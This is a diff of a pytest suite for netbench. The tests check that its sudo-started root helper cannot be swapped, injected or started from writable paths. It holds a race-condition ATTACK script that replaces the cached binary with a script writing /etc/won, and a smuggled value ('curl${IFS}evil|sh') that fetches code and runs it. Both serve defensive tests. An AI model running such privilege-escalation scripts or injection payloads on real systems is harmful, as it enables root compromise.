@@ -4,6 +4,7 @@ real mounts, real sudo.
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
 import os
 import platform
@@ -13,18 +14,21 @@ import signal
 import socket
 import subprocess
 import sys
+from collections.abc import Collection, Sequence
 from pathlib import Path
+from types import SimpleNamespace
+from typing import cast
 
 import pytest
 
 from netbench import campaign
 from netbench.conductor import conductor
-from netbench.conductor.check import check
-from netbench.conductor.worker_pool import WorkerPool
 from netbench.engine.worker import Worker
-from netbench.errors import EngineError, HostError, RequestError
+from netbench.errors import EngineError, HostError, RequestError, RootRefused
 from netbench.hosts import deploy
-from netbench.hosts.local import LocalChannel
+from netbench.hosts.base import Channel
+from netbench.hosts.local import LocalChannel, LocalProcess
+from netbench.hosts.shell import Shell
 from netbench.hosts.ssh.channel import SshChannel
 from tests.support.sshd import (
     UID,
@@ -34,6 +38,7 @@ from tests.support.sshd import (
     free_port,
     needs_sshd,
     speaks_ssh,
+    sudo_setup,
     tmp_path,
     until,
 )
@@ -70,7 +75,7 @@ def mounted(options: str, *places: str) -> str:
     )
 
 
-def works(channel: SshChannel, helper: bool = False) -> Worker:
+def works(channel: Channel, helper: bool = False) -> Worker:
     """A worker that has answered: a mover, or a helper."""
     worker = Worker(channel.start_helper() if helper else channel.start_mover(), "snd")
     assert worker.operate("file", BOOT_ID)[0] == Path(BOOT_ID).read_text()
@@ -90,7 +95,7 @@ def cache(server: Server) -> Path:
     return server.home / ".cache" / "netbench"
 
 
-def refusal(channel: SshChannel, helper: bool = False) -> str:
+def refusal(channel: Channel, helper: bool = False) -> str:
     with pytest.raises(HostError) as error:
         channel.start_helper() if helper else channel.start_mover()
     assert str(error.value).startswith("snd: ")
@@ -349,7 +354,7 @@ def source_only(tmp_path: Path) -> Path:
 
 @pytest.mark.slow
 def test_another_architecture_is_built_on_the_host_once(bed: Bed, source_only: Path) -> None:
-    server, _ = bed.host()
+    server, _ = bed.host(user="bench", setup=sudo_setup(bed, ASKS))
     channel = bed.channel(package=source_only)
     worker = works(channel)
     kept = program(worker)
@@ -360,6 +365,9 @@ def test_another_architecture_is_built_on_the_host_once(bed: Bed, source_only: P
     before = kept.stat().st_ino
     works(channel).close()
     assert kept.stat().st_ino == before
+    said = refusal(channel, helper=True)
+    assert f"run `make` on such a {platform.machine()} and copy" in said
+    assert "NOPASSWD" not in said, "what the account has built is the account's"
 
 
 def test_a_host_without_a_compiler_is_told_what_to_do(
@@ -469,46 +477,191 @@ def test_no_socket_listens(bed: Bed) -> None:
 # ----------------------------
 
 
-def sudo_setup(rules: str) -> str:
-    """Setup text: this host's sudoers."""
-    if shutil.which("sudo") is None:
-        pytest.skip("sudo is not installed")
-    return (
-        f"printf '%s\\n' 'Defaults !fqdn' 'root ALL=(ALL:ALL) ALL' '{rules}' > $HOME/../sudoers; chmod 440 $HOME/../sudoers\n"
-        "mount --bind $HOME/../sudoers /etc/sudoers; mount -t tmpfs -o mode=755 tmpfs /etc/sudoers.d"
-    )
-
-
 def uid(worker: Worker) -> int:
     return worker.hello.user
 
 
-def test_sudo_that_asks_for_a_password_is_told_what_to_add(bed: Bed) -> None:
-    server, channel = bed.host(user="bench", setup=sudo_setup("bench ALL=(root) ALL"))
-    message = refusal(channel, helper=True)
-    assert (
-        "`sudo -n` does not start the helper, which changes settings, for bench; connect as root, or allow this one program there"
-        in message
-    )
-    assert (
-        f"echo 'bench ALL=(root) NOPASSWD: sha256:{DIGEST} {cache(server)}/worker-{DIGEST} helper' | sudo tee /etc/sudoers.d/netbench"
-        in message
-    )
-    assert "sudo: a password is required" in message
-    worker = works(channel)
-    assert uid(worker) == UID
-    worker.close()
+ASKS = "bench ALL=(root) ALL"  # for a password
+ALL = "bench ALL=(root) NOPASSWD: ALL"
 
 
-def test_the_rule_that_is_told_is_enough(bed: Bed) -> None:
-    rule = f"bench ALL=(root) NOPASSWD: sha256:{DIGEST} {bed.folder}/server0/home/.cache/netbench/worker-{DIGEST} helper"
-    server, channel = bed.host(user="bench", setup=sudo_setup(rule))
+def told(channel: Channel) -> list[str]:
+    """The lines for an administrator, in what is said where sudo does not start the helper."""
+    said = refusal(channel, helper=True)
+    assert "`sudo -n` does not start the helper, which changes settings, for bench; connect" in said
+    assert "sudo: a password is required" in said
+    return said.splitlines()[1:]
+
+
+def started_by_sudo(worker: Worker) -> str:
+    """What sudo runs, of a helper that it has started."""
+    assert worker.hello.user == 0
+    status = Path(f"/proc/{worker.hello.pid}/status").read_text()
+    sudo = re.search("PPid:\t(.*)", status)
+    assert sudo
+    return Path(f"/proc/{sudo[1]}/cmdline").read_text().split("\0")[3]
+
+
+def tried(server: Server, words: str, env: str = "PATH=/usr/bin:/bin") -> bool:
+    """Whether sudo runs this for the account."""
+    try:
+        server.run(f"sudo -n -- {words} </dev/null >/dev/null 2>&1", *AS_BENCH, "env", env)
+    except subprocess.CalledProcessError:
+        return False
+    return True
+
+
+AS_BENCH = ("setpriv", f"--reuid={UID}", f"--regid={UID}", "--clear-groups")
+# It writes over what netbench has put into the account's folders, in place and back, and links and
+# renames it: of a program in such a folder, named in sudoers with its digest, sudo starts another.
+ATTACK = """\
+cd $HOME/.cache/netbench; cp worker-* ../good
+printf '#!/bin/sh\\n: > /etc/won\\n#%050d\\n' 0 > ../evil; chmod 755 ../evil
+evil=$(cat ../evil) good=$(head -c 80 ../good | od -v -A n -b | tr -d '\\n' | sed 's/ /\\\\/g')
+while :; do
+  for file in worker-*; do
+    for again in 1 2 3 4 5 6 7 8; do
+      printf "$evil\\n" 1<>$file; sleep 0.004
+      printf "$good" 1<>$file; sleep 0.004
+    done
+    ln -sf ../evil $file; cp ../evil next; mv next $file
+    rm $file; cp ../good $file
+  done
+done
+"""
+
+
+def test_the_lines_that_are_told_are_enough_and_no_way_to_root(bed: Bed) -> None:
+    """Whatever of its own the account exchanges meanwhile: what sudo starts is root's."""
+    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ASKS))
+    install, rule = told(channel)
+    assert "; install -D -o root -g root -m 700 " in install
+    assert f"'bench ALL=(root) NOPASSWD: {deploy.PLACE}/worker-* helper'" in rule
+    (kept,) = cache(server).iterdir()
+    kept.write_text("another")
+    with pytest.raises(subprocess.CalledProcessError):
+        server.run(install)
+    assert [file.name for file in bed.place.iterdir()] == ["new"]
+    works(channel).close()
+    server.run(f"{install}\n{rule}\nvisudo -c")
     worker = works(channel, helper=True)
-    assert uid(worker) == 0
+    assert started_by_sudo(worker) == f"{deploy.PLACE}/worker-{DIGEST}"
     worker.close()
-    works(channel, helper=True)
-    channel.close()
-    until(lambda: not server.workers())
+
+    started = re.sub(r".*NOPASSWD: (\S+) .*", r"\1", rule).replace("*", DIGEST)
+    assert tried(server, f"{started} helper")
+    server.run(f"mkdir {deploy.PLACE}/worker-x; cp {started} {deploy.PLACE}/worker-x/worker-y")
+    for words in (
+        started,
+        f"{started} mover",
+        f"{started} helper mover",
+        f"{started} 'helper;id'",
+        f"{deploy.PLACE}/worker-x/worker-y helper",
+        f"{deploy.PLACE}/worker-x/../../../../../bin/true helper",
+        f"{deploy.PLACE}/worker-../../../../../bin/true helper",
+        f"{deploy.PLACE}/new helper",
+        "/bin/true helper",
+    ):
+        assert not tried(server, words), words
+
+    nsenter = ["nsenter", f"--target={server.child.pid}", "--mount", *AS_BENCH]
+    argv = [*nsenter, "env", f"HOME={server.home}", "sh", "-c", ATTACK]
+    with subprocess.Popen(argv, stderr=subprocess.DEVNULL, start_new_session=True) as attack:
+        try:
+            until((cache(server).parent / "good").exists)
+            assert all(tried(server, f"{started} helper") for _ in range(200))
+            for _ in range(3):
+                with contextlib.suppress(HostError, EngineError):
+                    works(channel, helper=True).close()
+            assert attack.poll() is None
+        finally:
+            os.killpg(attack.pid, signal.SIGKILL)
+    server.run("! test -e /etc/won")
+
+
+class OnHost(LocalChannel):
+    """That host as one that its account runs netbench on, with this shell as its `sh`."""
+
+    def __init__(self, server: Server, shell: Path) -> None:
+        super().__init__("snd")
+        self._before = ["nsenter", f"--target={server.child.pid}", "--mount", *AS_BENCH]
+        path = f"PATH={shell}:{os.environ['PATH']}"
+        self._before += ["env", "-u", "XDG_RUNTIME_DIR", f"HOME={server.home}", path]
+
+    def start(self, argv: Sequence[str], kept: Collection[str] = ()) -> LocalProcess:
+        return super().start([*self._before, *argv], kept)
+
+
+@pytest.fixture
+def shells(tmp_path: Path) -> list[Path]:
+    """Folders, each with one of the shells that hosts have as `sh`."""
+    found = {name: shutil.which(name) for name in ("busybox", "dash", "bash")}
+    for name, program in found.items():
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "sh").symlink_to(program or pytest.skip(f"needs {name}"))
+    return [tmp_path / name for name in found]
+
+
+OTHERS = {  # what is wrong with the place that sudo would start a helper from
+    "a folder above is a group's": ("chmod 775 /usr/local", "/usr/local"),
+    "it is everybody's": (f"chmod 1777 {deploy.PLACE}", deploy.PLACE),
+    "a link in the path": (
+        "mv /usr/local/libexec /usr/local/other; ln -s other /usr/local/libexec",
+        "/usr/local/libexec",
+    ),
+    "another's folder": (f"chown {UID} /usr/local/libexec", "/usr/local/libexec"),
+    "another's file": (f"chown {UID} {deploy.PLACE}/worker-*", f"{deploy.PLACE}/worker-{DIGEST}"),
+    "a file of a group": (f"chmod g+w {deploy.PLACE}/worker-*", f"{deploy.PLACE}/worker-{DIGEST}"),
+    "a link": (
+        f"cd {deploy.PLACE}; mv worker-* old; ln -s old worker-{DIGEST}",
+        f"{deploy.PLACE}/worker-{DIGEST}",
+    ),
+}
+
+
+@pytest.mark.parametrize("fault", OTHERS)
+def test_sudo_starts_nothing_that_others_than_root_could_change(
+    bed: Bed, shells: list[Path], monkeypatch: pytest.MonkeyPatch, fault: str
+) -> None:
+    """Over SSH and on the machine of the controller; also where sudo allows everything."""
+    make, path = OTHERS[fault]
+    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ALL, BUILT) + make)
+    monkeypatch.setattr(os, "geteuid", lambda: UID)
+    for way in (channel, *(OnHost(server, shell) for shell in shells)):
+        said = refusal(way, helper=True)
+        assert f"below {path}, which others than root can change (" in said
+        assert f"`chown root {path}; chmod go-w {path}`" in said
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        ["others", "/usr/local;curl${IFS}evil|sh;true", "drwxrwxr-x", "2", "1000"],
+        *(["sudo", name, "/home/a/.cache/netbench/worker-1"] for name in ("ALL", "%users", "a=b")),
+    ],
+)
+def test_what_a_host_answers_is_no_command_for_root(answer: list[str]) -> None:
+    shell = SimpleNamespace(failure=HostError, refusal=RootRefused, machine="x86_64")
+    refused = str(deploy._refusal(cast(Shell, shell), answer, deploy.Parcel("worker", b"", "0")))
+    assert "connect as root" in refused or "could not be started" in refused
+    assert not re.search("chown|sudoers|curl", refused)
+
+
+def test_where_sudo_allows_everything_the_helper_is_installed(
+    bed: Bed, shells: list[Path], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ALL))
+    monkeypatch.setattr(os, "geteuid", lambda: UID)
+    said = f"snd: by sudo the helper is in {deploy.PLACE} now, and older ones are not"
+    for way in (channel, *(OnHost(server, shell) for shell in shells)):
+        (bed.place / f"worker-{DIGEST}").unlink(missing_ok=True)
+        (bed.place / "worker-0").touch()
+        for _ in range(2):
+            worker = works(way, helper=True)
+            assert started_by_sudo(worker) == f"{deploy.PLACE}/worker-{DIGEST}"
+            worker.close()
+            assert [file.name for file in bed.place.iterdir()] == [f"worker-{DIGEST}"]
+    assert caplog.messages == [said] * 4
 
 
 def test_root_needs_no_sudo(bed: Bed, tmp_path: Path) -> None:
@@ -516,63 +669,35 @@ def test_root_needs_no_sudo(bed: Bed, tmp_path: Path) -> None:
     works(channel, helper=True).close()
 
 
-def test_a_user_without_root_learns_which_cells_need_it_and_what_else_is_wrong(
+def test_users_without_root_learn_which_cells_need_it_and_what_else_is_wrong(
     bed: Bed, tmp_path: Path
 ) -> None:
     """The request was wrong: nothing is run, and nothing is hidden by it."""
-    _, channel = bed.host(user="bench", setup=sudo_setup("bench ALL=(root) ALL"))
+    _, channel = bed.host(user="bench", setup=sudo_setup(bed, ASKS))
+    channels = {"snd": channel, "rcv": SshChannel("rcv", "box", ssh_config=bed.config)}
     text = (
-        "netbench: 1\nname: c\nhosts: {snd: {ssh: bench@snd}}\nrepeat: {min: 1, max: 1}\n"
+        "netbench: 1\nname: c\nhosts: {snd: {ssh: bench@snd}, rcv: {ssh: bench@rcv}}\n"
+        "repeat: {min: 1, max: 1}\n"
         "transfer: {duration: 60ms, source: {file: /nope}, send: sendfile}\n"
         "sweep: {streams: [1, 2]}\ninclude: [{streams: 2, tso: off, mtu: 1400}]\n"
     )
     found = campaign.parse(text, "c.yaml")
-    with WorkerPool(found, lambda host: channel) as pool:
-        errors = [f for f in check(found, pool) if f.level == "error"]
-    assert ["/nope does not exist" in f.what for f in errors] == [True, False]
-    assert errors[1].host == "snd"
-    assert errors[1].what.startswith("tso, mtu need root, in 1 of 2 cells, which `exclude:`")
-    assert "NOPASSWD: sha256:" in errors[1].what
     with pytest.raises(RequestError) as refused:
-        conductor.start(found, tmp_path / "results", channels=lambda host: channel)
+        conductor.start(found, tmp_path / "results", channels=lambda host: channels[host.name])
     assert refused.value.exit_code == 2
-    assert "/nope does not exist" in str(refused.value)
-    assert "tso, mtu need root" in str(refused.value)
     assert not (tmp_path / "results").exists()
+    said = [line for line in str(refused.value).splitlines() if not line.startswith("error: snd: ")]
+    assert "/nope does not exist" in str(refused.value)
+    assert said[0].startswith("error: rcv,snd: tso, mtu need root, in 1 of 2 cells, which `exclu")
+    assert said[1] == "error: rcv,snd: an administrator of each host allows it by"
+    assert "install -D -o root -g root" in said[2]
+    assert "NOPASSWD" in said[3]
+    assert len(said) == 4
 
 
 def test_a_host_without_sudo_is_named(bed: Bed, tmp_path: Path) -> None:
     _, channel = bed.host(user="bench", sshd=poor(tmp_path))
-    assert "the host has no `sudo`; connect as root, not as bench" in refusal(channel, helper=True)
-
-
-@pytest.mark.parametrize("allowed", [True, False])
-def test_this_machine_as_a_host_uses_sudo_too(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, allowed: bool
-) -> None:
-    """A stand-in for sudo, which speaks the real one's words: accounts of this machine stay as they
-    are.
-    """
-    stand_in = tmp_path / "sudo"
-    refuse = "" if allowed else "echo 'sudo: a password is required' >&2; exit 1\n"
-    stand_in.write_text(
-        f'#!/bin/sh\n{refuse}[ "$1 $2" = "-n --" ] || exit 9\nshift 2\necho "$@" >> {tmp_path}/asked\nexec "$@"\n'
-    )
-    stand_in.chmod(0o755)
-    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
-    monkeypatch.setattr(os, "geteuid", lambda: 1000)
-    channel = LocalChannel("here", [str(BUILT)])
-    if not allowed:
-        with pytest.raises(
-            HostError,
-            match=r"(?s)here: settings need root.*a password is required.*NOPASSWD: .*worker-",
-        ):
-            channel.start_helper()
-        return
-    Worker(channel.start_mover(), "here").close()
-    assert not (tmp_path / "asked").exists()
-    Worker(channel.start_helper(), "here").close()
-    assert (tmp_path / "asked").read_text() == f"{BUILT} helper\n" * 2
+    assert "the host has no `sudo`; connect as root" in refusal(channel, helper=True)
 
 
 def test_the_port_is_free_again(bed: Bed) -> None:
